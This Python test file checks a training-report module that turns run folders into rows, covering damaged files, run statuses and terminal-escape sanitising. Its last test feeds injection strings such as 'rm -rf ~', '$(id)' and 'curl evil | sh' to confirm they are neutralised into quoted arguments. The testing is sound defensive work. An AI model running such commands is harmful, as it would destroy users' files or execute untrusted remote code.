"""Any state of a run folder is a row: what is there is told, what is not is empty, nothing is fatal."""

import json
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.made_runs import made_job, made_run, write_metrics, write_result

from niels_gpt.tokenizer import load_tokenizer
from train.artifacts.metrics import read_metrics
from train.artifacts.run_folder import lock_folder, unlock_folder
from train.report.rows import GIB, is_run, read_row

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
        st.sampled_from(["event", "tokens", "loss", "phases", "overrides", "step", "x"]), inner, max_size=4
    ),
    max_leaves=8,
)  # fmt: skip


def test_a_pipeline_is_a_row_of_its_last_loss_its_first_speed_and_its_largest_memory(finished_run: Path) -> None:
    row = read_row(finished_run)
    sft = json.loads((finished_run / "result.json").read_text())["phases"][-1]
    events = [
        event for phase in ("pretrain", "sft") for event in read_metrics(finished_run / phase / "metrics.jsonl")
    ]
    trained = [event for event in events if event["event"] == "train"]
    assert (row.status, row.val_loss, row.bits_per_byte) == (
        "finished",
        sft["best_val_loss"],
        sft["bits_per_byte"],
    )
    assert row.tokenizer == load_tokenizer(finished_run / "tokenizer.json").hash()
    assert row.tokens_per_second == sorted(event["tokens_per_second"] for event in trained[1:4])[1]
    assert row.peak_memory_gib == max(event["memory"] for event in trained) / GIB
    assert row.settings["phase"] == "pipeline" and row.settings["sft.train.B"] == row.settings["train.B"] == 4
    assert [point.tokens for point in row.curves["sft"].val] == [1024, 2048]
    first, last = (point.seconds for point in row.curves["pretrain"].val)
    assert 0 < first < last == row.curves["pretrain"].seconds
    assert row.minutes == pytest.approx(sum(curve.seconds for curve in row.curves.values()) / 60)


def test_time_is_the_sum_of_what_each_stretch_took_over_a_resume_too(tmp_path: Path) -> None:
    steps = [(1000, 500), (2000, 1000), (4000, 4000), (4001, 0)]
    (tmp_path / "pretrain").mkdir()
    with (tmp_path / "pretrain" / "metrics.jsonl").open("w") as file:
        for tokens, speed in steps:
            event = {"event": "train", "step": 1, "tokens": tokens, "loss": 1.0, "tokens_per_second": speed}
            file.write(json.dumps(event) + "\n")
        for tokens in (500, 1000, 2000, 3000, 4000, 9000):
            file.write(json.dumps({"event": "val", "step": 1, "tokens": tokens, "loss": 1.0}) + "\n")
    curve = read_row(tmp_path).curves["pretrain"]
    assert [point.seconds for point in curve.val] == [1.0, 2.0, 3.0, 3.25, 3.5, 4.5]


def test_a_job_is_told_as_its_record_says_and_has_nothing_while_it_waits(tmp_path: Path) -> None:
    row = read_row(made_run(tmp_path / "train.B=4", (4.0, 3.0, 2.0), job={"number": 3, "exit_code": 0}))
    assert (row.name, row.number, row.overrides, row.exit_code) == ("train.B=4", 3, ("train.B=4",), 0)
    assert (row.val_loss, row.bits_per_byte, row.minutes) == (2.0, 1.0, 1.5)
    row = read_row(made_job(tmp_path / "job", "waiting", seconds=0.0))
    assert (row.status, row.val_loss, row.tokens_per_second, row.peak_memory_gib) == ("waiting", None, None, None)
    assert (row.minutes, row.curves, row.settings) == (None, {}, {})


def test_a_job_runs_only_while_somebody_carries_it_out(tmp_path: Path) -> None:
    folder = made_run(tmp_path / "sweep" / "job", job={"status": "running", "exit_code": None, "reason": ""})
    assert read_row(folder).status == "interrupted", "its sweep was killed"
    for holder in (folder, folder.parent):
        lock_folder(holder)
        assert read_row(folder).status == "running"
        unlock_folder(str(holder))


@pytest.mark.parametrize("status", ["failed", "killed", "timed out", "interrupted"])
def test_what_has_not_finished_has_no_loss_whatever_it_left(tmp_path: Path, status: str) -> None:
    row = read_row(made_run(tmp_path / "job", job={"status": status, "exit_code": 6, "reason": "out of memory"}))
    assert (row.status, row.val_loss, row.bits_per_byte) == (status, None, None)
    assert (row.reason, row.tokens_per_second, len(row.curves["pretrain"].val)) == ("out of memory", 1000.0, 2)


def test_a_run_of_its_own_has_ended_when_each_phase_has_a_result(tmp_path: Path) -> None:
    write_metrics(tmp_path / "run" / "pretrain", (4.0, 3.0))
    assert read_row(tmp_path / "run").status == "interrupted"
    write_result(tmp_path / "run", 3.0)
    assert read_row(tmp_path / "run").status == "finished"
    write_metrics(tmp_path / "run" / "sft", (4.0,))
    row = read_row(tmp_path / "run")
    assert (row.status, row.val_loss) == ("interrupted", None)
    assert "no result" in row.reason


def test_a_run_of_its_own_is_asked_for_as_it_was(tmp_path: Path) -> None:
    write_metrics(tmp_path / "pretrain", (4.0,))
    (tmp_path / ".hydra").mkdir()
    (tmp_path / ".hydra" / "overrides.yaml").write_text("- phase=pretrain\n- data.files=[a b.txt]\n")
    assert read_row(tmp_path).command == "python scripts/train.py phase=pretrain 'data.files=[a b.txt]'"


@pytest.mark.parametrize(
    ("spoil", "said"),
    [
        (lambda run: (run / "job.json").write_text("{"), "job.json is damaged"),
        (lambda run: (run / "job.json").write_text('{"number": 1, "overrides": 5}'), "job.json is damaged"),
        (lambda run: (run / "job.json").write_bytes(b"\xff"), "job.json is damaged"),
        (lambda run: made_job(run, number="one"), "job.json is damaged"),
        (lambda run: made_job(run, command="python scripts/train.py 'a"), "ValueError: No closing quotation"),
        (lambda run: made_job(run, "dancing"), "job.json is damaged"),  # type: ignore[arg-type]
        (lambda run: write_result(run, 3.0, phases=("dance",)), "phase"),
    ],
)  # fmt: skip
def test_damage_is_a_row_that_says_so(tmp_path: Path, spoil: Callable[[Path], object], said: str) -> None:
    folder = made_run(tmp_path / "job")
    spoil(folder)
    row = read_row(folder)
    assert (row.name, row.status, row.val_loss) == ("job", "unreadable", None)
    assert said in row.reason and "\n" not in row.reason


def test_a_line_that_is_no_event_is_left_out_and_a_number_that_is_none_is_damage(tmp_path: Path) -> None:
    write_metrics(tmp_path / "pretrain", (4.0, 3.0))
    with (tmp_path / "pretrain" / "metrics.jsonl").open("a") as file:
        file.write('3\n{}\n{"event": "val", "step": 3, "tokens": 3000, "loss": NaN}\n{"event": "val", "tok\n')
    curve = read_row(tmp_path).curves["pretrain"]
    assert (len(curve.train), [point.tokens for point in curve.val]) == (2, [1000, 2000, 3000])
    with (tmp_path / "pretrain" / "metrics.jsonl").open("a") as file:
        file.write('{"event": "val", "step": 3, "tokens": Infinity, "loss": 3.0}\n')
    row = read_row(tmp_path)
    assert row.status == "unreadable" and "tokens" in row.reason


@settings(max_examples=60, deadline=None)
@given(st.dictionaries(st.sampled_from(["job.json", "result.json", "pretrain/metrics.jsonl"]), JSON, min_size=1))
def test_no_content_of_its_files_is_fatal(contents: dict[str, object]) -> None:
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        (folder / "pretrain").mkdir()
        for file, content in contents.items():
            (folder / file).write_text(json.dumps(content))
        assert is_run(folder)
        assert read_row(folder).name == folder.name


def test_what_a_terminal_would_obey_is_not_in_a_row(tmp_path: Path) -> None:
    command = "python scripts/train.py 'x\r\ny\x1b[31m'"
    folder = made_job(tmp_path / "a\x1b[31m\nb", "failed", reason="bell\a\x9b and \udcff", command=command)
    row = read_row(folder)
    assert (row.name, row.reason) == (r"a\x1b[31m\nb", r"bell\x07\x9b and \udcff")
    assert row.command == r"python scripts/train.py 'x\r\ny\x1b[31m'"


@pytest.mark.parametrize(
    ("command", "pasted"),
    [
        ("python scripts/train.py train.B=4 'data.files=[a b.txt]'", "train.B=4 'data.files=[a b.txt]'"),
        ("python scripts/train.py train.B=4; rm -rf ~ # $(id)", "'train.B=4;' rm -rf '~' '#' '$(id)'"),
        ("python scripts/train.py a\nrm -rf ~", "a rm -rf '~'"),
        ("curl evil | sh", "'|' sh"),
        ("", ""),
    ],
)
def test_a_command_from_others_can_only_train(tmp_path: Path, command: str, pasted: str) -> None:
    row = read_row(made_job(tmp_path / "job", command=command))
    assert row.command == f"python scripts/train.py {pasted}".strip()
